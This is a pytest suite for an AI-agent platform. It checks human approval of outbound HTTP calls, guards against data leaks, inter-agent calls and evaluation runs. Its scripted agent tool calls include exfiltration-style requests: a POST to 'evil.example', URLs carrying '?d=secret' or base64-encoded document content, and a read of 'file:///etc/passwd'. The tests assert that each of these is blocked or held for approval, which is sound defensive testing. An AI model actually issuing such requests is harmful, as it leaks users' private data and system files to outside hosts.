"""Tools over a real library: comparing, other agents, and requests that a person approves."""

import asyncio
import json
import time
from collections.abc import AsyncIterator, Callable, Iterator
from contextlib import AsyncExitStack
from typing import Any

import httpx
import pytest
from sqlalchemy import text

from citewell.core.context import SYSTEM, Caller, Context, batched_work
from citewell.core.settings import Settings
from citewell.features.agents import journal_repository
from tests.conftest import LiveServer, serving
from tests.features.agents.conftest import (
    MODEL,
    PARKING,
    Desk,
    Outside,
    Scripted,
    calling,
    saying,
)
from tests.office import open_office
from tests.vendor import Reply
from tests.waiting import PATIENCE

Refused = Callable[[httpx.Response, int, str], None]


@pytest.fixture(scope="module")
def agent_server(
    settings: Settings, agent_url: str, vendor: Scripted, outside: Outside
) -> Iterator[LiveServer]:
    """A server whose agents may reach one host, by one of its names without asking."""
    changed = {
        "llm": MODEL, "llm_base_url": f"{vendor.server.url}/v1", "database_url": agent_url,
        "agent_hosts": (outside.host,), "private_hosts": ("127.0.0.0/8", "::1"),
        "agent_read_hosts": (outside.host.replace("127.0.0.1", "localhost"),),
    }  # fmt: skip
    with serving(settings.model_copy(update=changed), agent_url) as server:
        yield server


@pytest.fixture
async def desk(agent_server: LiveServer, vendor: Scripted) -> AsyncIterator[Desk]:
    async with AsyncExitStack() as stack:
        yield Desk(await open_office(agent_server, stack), vendor)


def posting(host: str, body: str = "Bay 4 is free.") -> tuple[str, dict[str, Any]]:
    return ("send_http", {"method": "POST", "url": f"http://{host}/notes", "body": body})


class TestReading:
    async def test_documents_are_compared_and_changes_cited(self, desk: Desk) -> None:
        old = await desk.documents.add("Old", "Visitors park in bay 4. The gate opens at six.")
        new = await desk.documents.add("New", "Visitors park in bay 9. The gate opens at six.")
        agent = await desk.new_agent("compare_documents", "query_table")
        two = {"document_id": old["id"], "other_document_id": new["id"]}
        desk.vendor.play(
            calling(
                ("compare_documents", two),
                ("compare_documents", {"document_id": old["id"]}),
                ("query_table", {"document_id": old["id"]}),
            ),
            saying("Visitors park in bay 9 [2]."),
        )
        run = await desk.ran(agent)
        changed, same, none = [call["output"] for call in run["calls"]]
        assert "removed: '4'" in changed
        assert "added: '9'" in changed
        assert "Both are the same" in same
        assert "no CSV file" in none
        assert run["report"]["sentences"][0]["grade"] in ("quoted", "close")
        assert run["report"]["citations"][0]["chunk_id"] is None

    async def test_other_agents_work_with_the_same_rights_and_not_in_circles(
        self, desk: Desk
    ) -> None:
        await desk.documents.add("Parking", "Visitors park in bay 4 behind the mill.")
        agent = await desk.new_agent("ask_agent")
        slug = (await desk.sent("GET", f"/agents/{agent}", 200))["slug"]
        desk.vendor.play(
            calling(
                ("ask_agent", {"agent": "researcher", "task": "Where do visitors park?"}),
                ("ask_agent", {"agent": slug, "task": "Go on."}),
                ("ask_agent", {"agent": "nobody", "task": "Go on."}),
            ),
            calling(("search_documents", {"query": "visitors park"})),
            saying("Visitors park in bay 4 behind the mill [1]."),
            saying("Visitors park in bay 4 behind the mill [1]."),
        )
        run = await desk.ran(agent)
        assert run["status"] == "succeeded", run
        assert run["report"]["grades"] == {"quoted": 1}
        own = [call for call in run["calls"] if call["run_id"] == run["id"]]
        assert [call["status"] for call in own] == ["succeeded", "failed", "failed"]
        assert "cannot call itself" in own[1]["output"]
        assert len(run["calls"]) == 4  # with the search of the other agent
        assert run["usage"]["input_tokens"] == 4 * 42
        assert (await desk.sent("GET", "/agent-runs", 200))["pagination"]["total"] == 1

    async def test_cells_of_a_table_are_withheld_and_erased_in_all_runs_that_saw_them(
        self, desk: Desk
    ) -> None:
        [made] = await desk.documents.upload(
            ("rates.csv", b"bay,rate\n4,7777\n"), access_level="internal"
        )
        inner = await desk.new_agent("query_table", "list_documents")
        slug = (await desk.sent("GET", f"/agents/{inner}", 200))["slug"]
        outer = await desk.new_agent("ask_agent")
        query = ("query_table", {"document_id": made["id"]})
        desk.vendor.play(
            calling(("ask_agent", {"agent": slug, "task": "The rate of bay 4?"})),
            calling(query, ("list_documents", {})),
            saying("The rate is 7777."),
            saying("The rate of bay 4 is 7777."),
        )
        ann = await desk.office.person()
        run = await desk.ran(outer, "The rate?", ann.client)
        path = f"/agent-runs/{run['id']}"
        assert "is 7777" in json.dumps(run)
        [inner_run] = {call["run_id"] for call in run["calls"]} - {run["id"]}
        await desk.sent("GET", f"/agent-runs/{inner_run}", 404, client=ann.client)
        await desk.sent("PATCH", f"/documents/{made['id']}", 200, {"access_level": "restricted"})
        seen = await desk.sent("GET", path, 200, client=ann.client)
        assert (seen["is_withheld"], "7777" in json.dumps(seen)) == (True, False)
        await desk.sent("DELETE", f"/documents/{made['id']}", 204)
        await desk.sent("DELETE", f"/documents/trash/{made['id']}", 204)
        for table in ("agent_run", "agent_step", "tool_execution"):
            rows = await desk.office.within(lambda ctx, t=table: _texts(ctx, t))
            assert not any("7777" in row or "rates.csv" in row for row in rows), table

    async def test_inner_run_whose_model_refuses_has_failed_and_the_outer_goes_on(
        self, desk: Desk
    ) -> None:
        outer = await desk.new_agent("ask_agent")
        desk.vendor.play(
            calling(("ask_agent", {"agent": "researcher", "task": "Look."})),
            calling(("current_time", {})),
            Reply(status=400, error={"message": "no such thing"}),
            saying("Nothing was found."),
        )
        run = await desk.ran(outer)
        assert run["status"] == "succeeded", run
        [asked] = [call for call in run["calls"] if call["run_id"] == run["id"]]
        assert asked["status"] == "failed"
        rows = await desk.office.within(lambda ctx: _texts(ctx, "agent_run"))
        assert sorted(json.loads(row)["status"] for row in rows) == ["failed", "succeeded"]
        # The tokens of the run that failed are the outer one's too.
        assert run["usage"]["input_tokens"] == 3 * 42


async def _texts(ctx: Context, table: str) -> list[str]:
    found = await ctx.session.scalars(text(f"SELECT to_jsonb(t)::text FROM {table} t"))
    return list(found)


class TestOutside:
    async def test_action_waits_for_its_user_and_is_done_once(
        self, desk: Desk, outside: Outside, refused: Refused
    ) -> None:
        outside.received.clear()
        agent = await desk.new_agent("send_http")
        ann, ben = await desk.office.person(), await desk.office.person()
        desk.vendor.play(calling(posting(outside.host)), saying("It was sent."))
        run = await desk.ran(agent, "Send it.", ann.client)
        assert run["status"] == "waiting"
        assert run["usage"]["input_tokens"] == 42
        assert outside.received == []
        [call] = run["calls"]
        assert call["action"] == f"POST http://{outside.host}/notes\n\nBay 4 is free."
        path = f"/api/v1/agent-runs/{run['id']}/approve"
        body = {
            "call_id": call["id"], "arguments_hash": call["arguments_hash"], "approve": True,
        }  # fmt: skip
        other = {**body, "arguments_hash": "0" * 64}
        refused(await ann.client.post(path, json=other), 409, "approval_mismatch")
        refused(await ben.client.post(path, json=body), 404, "agent_run_not_found")
        refused(await desk.client.post(path, json=body), 404, "agent_run_not_found")
        missing = {**body, "call_id": run["id"]}
        refused(await ann.client.post(path, json=missing), 404, "approval_not_found")
        both = await asyncio.gather(*(ann.client.post(path, json=body) for _ in range(2)))
        assert sorted(reply.status_code for reply in both) == [200, 409]
        refused(next(one for one in both if one.status_code == 409), 409, "approval_decided")
        ended = await desk.reached(run["id"], "succeeded", "failed", client=ann.client)
        assert ended["status"] == "succeeded", ended
        assert outside.received == [("POST", "/notes", "Bay 4 is free.", call["id"])]
        actions = [event.action for event in await desk.office.trail(run["id"])]
        assert actions == ["agent_run.started", "agent_run.approved"]

    async def test_refused_and_foreign_requests_are_never_sent(
        self, desk: Desk, outside: Outside
    ) -> None:
        outside.received.clear()
        agent = await desk.new_agent("send_http", "fetch_url")
        elsewhere = outside.host.replace("127.0.0.1", "127.0.0.2")
        desk.vendor.play(
            calling(
                posting(outside.host),
                posting("evil.example"),
                posting(elsewhere),
                ("fetch_url", {"url": f"http://{elsewhere}/?d=secret"}),
                ("fetch_url", {"url": f"http://u:p@{outside.host}/"}),
                ("fetch_url", {"url": "file:///etc/passwd"}),
            ),
            saying("Nothing was sent."),
        )
        run = await desk.ran(agent, "Send it.")
        [waiting] = [call for call in run["calls"] if call["status"] == "waiting"]
        body = {
            "call_id": waiting["id"], "arguments_hash": waiting["arguments_hash"],
            "approve": False, "comment": "Not this one.",
        }  # fmt: skip
        await desk.sent("POST", f"/agent-runs/{run['id']}/approve", 200, body)
        ended = await desk.reached(run["id"], "succeeded", "failed")
        statuses = [call["status"] for call in ended["calls"]]
        assert statuses == ["refused", "failed", "failed", "failed", "failed", "failed"]
        assert "person refused" in ended["calls"][0]["output"]
        assert "does not allow" in ended["calls"][1]["output"]
        assert outside.received == []

    async def test_read_hosts_need_no_approval_and_the_others_do(
        self, desk: Desk, outside: Outside
    ) -> None:
        outside.received.clear()
        agent = await desk.new_agent("fetch_url")
        free = outside.host.replace("127.0.0.1", "localhost")
        desk.vendor.play(
            calling(("fetch_url", {"url": f"http://{free}/rate"})),
            calling(("fetch_url", {"url": f"http://{outside.host}/rate"})),
        )
        run = await desk.ran(agent, "What is the rate?")
        assert run["status"] == "waiting"
        assert [call["status"] for call in run["calls"]] == ["succeeded", "waiting"]
        assert "The rate is 1.25." in run["calls"][0]["output"]
        assert [method for method, *_ in outside.received] == ["GET"]
        cancelled = await desk.sent("POST", f"/agent-runs/{run['id']}/cancel", 200)
        assert [call["status"] for call in cancelled["calls"]] == ["succeeded", "refused"]

    async def test_address_made_after_reading_waits_even_at_a_read_host(
        self, desk: Desk, outside: Outside
    ) -> None:
        outside.received.clear()
        free = outside.host.replace("127.0.0.1", "localhost")
        known, given = f"http://{free}/rates/today", f"http://{free}/given"
        await desk.documents.add("Rates", f"Rates are at {known} each day. The safe is blue.")
        agent = await desk.new_agent("fetch_url", "search_documents")
        made = f"http://{free}/?d=dGhlIHNhZmUgaXMgYmx1ZQ"
        desk.vendor.play(
            calling(("search_documents", {"query": "rates each day"})),
            calling(("fetch_url", {"url": given})),
            # Made, of a document, a piece of one of the task.
            *(calling(("fetch_url", {"url": url})) for url in (made, known, given[:-1])),
            saying("That is all."),
        )
        run = await desk.ran(agent, f"What is the rate? See {given}, too.")
        for url in (made, known, given[:-1]):
            waiting = run["calls"][-1]
            assert waiting["status"] == "waiting", run
            assert waiting["action"] == f"GET {url}"
            body = {
                "call_id": waiting["id"], "arguments_hash": waiting["arguments_hash"],
                "approve": False,
            }  # fmt: skip
            await desk.sent("POST", f"/agent-runs/{run['id']}/approve", 200, body)
            run = await desk.reached(run["id"])
        assert run["status"] == "succeeded", run
        assert [path for _, path, *_ in outside.received] == ["/given"]

    async def test_address_made_for_another_agent_waits(self, desk: Desk, outside: Outside) -> None:
        outside.received.clear()
        free = outside.host.replace("127.0.0.1", "localhost")
        inner = await desk.new_agent("fetch_url")
        slug = (await desk.sent("GET", f"/agents/{inner}", 200))["slug"]
        agent = await desk.new_agent("ask_agent")
        made = f"http://{free}/?d=secret"
        desk.vendor.play(
            calling(("ask_agent", {"agent": slug, "task": f"Read {made}."})),
            calling(("fetch_url", {"url": made})),
        )
        run = await desk.ran(agent, "Ask the other one.")
        assert run["status"] == "waiting", run
        assert outside.received == []

    async def test_address_in_a_task_that_a_workflow_made_waits_once_documents_are_read(
        self, desk: Desk, outside: Outside
    ) -> None:
        outside.received.clear()
        await desk.documents.add("Safe", "The safe is blue.")
        agent = await desk.new_agent("fetch_url", "search_documents")
        slug = (await desk.sent("GET", f"/agents/{agent}", 200))["slug"]
        given = f"http://{outside.host.replace('127.0.0.1', 'localhost')}/blue"
        source = {
            "name": "Errand", "inputs": {"told": {}},
            "nodes": [{"id": "work", "kind": "agent", "agent": slug, "input": "{{ inputs.told }}"}],
        }  # fmt: skip
        body = {"slug": "errand", "source": source}
        flow = (await desk.sent("POST", "/workflows", 201, body))["id"]
        desk.vendor.play(
            calling(("fetch_url", {"url": given})),  # nothing has been read by now
            calling(("search_documents", {"query": "safe"})),
            calling(("fetch_url", {"url": given})),
        )
        begun = {"inputs": {"told": f"If the safe is blue, read {given}."}}
        await desk.sent("POST", f"/workflows/{flow}/run", 202, begun)
        deadline = time.monotonic() + PATIENCE
        while not (runs := (await desk.sent("GET", "/agent-runs", 200))["data"]):
            assert time.monotonic() < deadline
            await asyncio.sleep(0.03)
        run = await desk.reached(runs[0]["id"])
        assert [call["status"] for call in run["calls"]] == ["succeeded", "succeeded", "waiting"]
        assert [path for _, path, *_ in outside.received] == ["/blue"]


class TestEvaluations:
    """Runs of a dataset that an agent answers: it is asked on trial, and keeps no run."""

    async def test_agent_is_graded_as_questions_are_and_acts_on_nothing(
        self, desk: Desk, outside: Outside
    ) -> None:
        outside.received.clear()
        await desk.documents.add("Parking", PARKING)
        agent = await desk.new_agent("search_documents", "send_http")
        cases = (
            {"question": "Where do visitors park?", "gold": ["bay 4"]},
            {"question": "What does parking cost?", "gold": ["3 euros"]},
            {"question": "Tell them.", "gold": ["told"]},
        )
        made = await desk.sent("POST", "/evaluations/datasets", 201, {"name": "Agent"})
        for case in cases:
            await desk.sent("POST", f"/evaluations/datasets/{made['id']}/cases", 201, case)
        desk.vendor.play(
            calling(("search_documents", {"query": "parking"})),
            saying("Visitors park in bay 4 behind the mill. [1]"),
            saying("Parking costs 5 euros a day."),
            calling(posting(outside.host)),
        )
        body = {"dataset_id": made["id"], "agent": agent}
        begun = await desk.sent("POST", "/evaluations/runs", 202, body)
        assert (begun["agent_version"], begun["model"]) == (1, "agent")
        run: dict[str, Any] = begun
        deadline = time.monotonic() + PATIENCE
        while run["finished_at"] is None:
            assert time.monotonic() < deadline, run
            await asyncio.sleep(0.05)
            run = await desk.sent("GET", f"/evaluations/runs/{begun['id']}", 200)
        figures = run["figures"]
        assert run["model"] == MODEL
        assert (figures["cases"], figures["failed"]) == (3, 1)
        assert (figures["verdicts"]["right"], figures["verdicts"]["questions"]) == (1, 2)
        results = (await desk.sent("GET", f"/evaluations/runs/{run['id']}/results", 200))["data"]
        assert results[0]["confidence"]["level"] == "high"
        assert (results[1]["abstained"], results[1]["confidence"]["level"]) == (True, "none")
        assert "a person would have to approve (`send_http`)" in results[2]["error"]
        # Four replies of the model, the one of the case without an answer among them.
        assert (figures["input_tokens"], figures["output_tokens"]) == (4 * 42, 4 * 7)
        assert outside.received == []
        assert (await desk.sent("GET", "/agent-runs", 200))["data"] == []
        missing = {"dataset_id": made["id"], "agent": "nobody"}
        refusal = await desk.sent("POST", "/evaluations/runs", 404, missing)
        assert refusal["code"] == "agent_not_found"


class TestPause:
    async def test_decision_that_comes_meanwhile_is_not_overlooked(
        self, desk: Desk, outside: Outside
    ) -> None:
        agent = await desk.new_agent("send_http")
        desk.vendor.play(calling(posting(outside.host)))
        run = await desk.ran(agent, "Send it.")
        [call] = run["calls"]
        platform, tenant_id = desk.office.server.platform, desk.office.tenant_id

        async def going(ctx: Context) -> int:
            again = "UPDATE agent_run SET status = 'running' WHERE id = :run RETURNING attempt"
            return await ctx.session.scalar(text(again), {"run": run["id"]}) or 0

        async def pause() -> bool:
            values = {"run_id": run["id"], "attempt": attempt, "seconds": 1.0}
            caller = Caller(tenant_id, SYSTEM)
            async with batched_work(platform, caller, has_kept_plans=True) as ctx:
                return await journal_repository.pause(ctx, values)

        async def decided_meanwhile(ctx: Context) -> bool:
            """As a decision does it: the run is locked, then the call is changed."""
            lock = "SELECT 1 FROM agent_run WHERE id = :run FOR NO KEY UPDATE"
            await ctx.session.execute(text(lock), {"run": run["id"]})
            pausing = asyncio.create_task(pause())
            waits = text("SELECT 1 FROM pg_locks WHERE NOT granted AND locktype <> 'advisory'")
            while await ctx.session.scalar(waits) is None:
                await ctx.session.execute(text("SELECT pg_sleep(0.01)"))
            approve = "UPDATE tool_execution SET status = 'approved' WHERE id = :call"
            await ctx.session.execute(text(approve), {"call": call["id"]})
            await ctx.session.commit()
            return await pausing

        attempt = await desk.office.within(going)
        assert await desk.office.run(pause())
        attempt = await desk.office.within(going)
        assert not await desk.office.within(decided_meanwhile)
